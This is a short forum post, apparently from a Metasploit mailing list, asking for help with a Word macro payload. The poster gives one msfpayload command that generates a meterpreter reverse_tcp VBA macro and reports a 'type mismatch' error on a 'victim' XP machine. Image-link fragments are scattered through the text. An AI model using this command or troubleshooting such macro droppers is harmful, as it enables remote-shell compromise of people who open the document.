Hi all,

Has anybody successfully used the new style, two part, vba code generated by msfpayload

e.g. ./msfpayload windows/meterpreter/reverse_tcp LHOST V > /tmp/nastymacro.bas

The problem I'm hitting is where you have to paste the dataportion of the macro, thehex dump, into the body of the word document.At runtime on the victim computer I get a 'type mismatch' error, and I can't figureout what's up.

Anybody run into this problem? Cansomebody help?

victiminfo:
Win xp SP3
Word 2000 SP3